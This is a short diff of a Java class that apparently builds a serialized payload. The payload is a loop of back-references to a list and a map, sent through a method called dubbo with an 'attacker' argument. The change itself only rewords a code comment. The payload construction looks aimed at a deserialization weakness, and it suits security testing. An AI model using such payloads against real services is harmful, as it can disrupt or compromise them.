@@ -26,7 +26,7 @@ final class Contents {
         list.write('Z');
         for (int i = 0; i < REFERENCES; i++) {
             list.write('Q');
-            list.write(0x90 + i % 2); // a reference to the list or to the map, in turn
+            list.write(0x90 + i % 2); // alternately a reference to the list and to the map
         }
         list.write('Z');
         dubbo(attacker, () -> list.toByteArray());
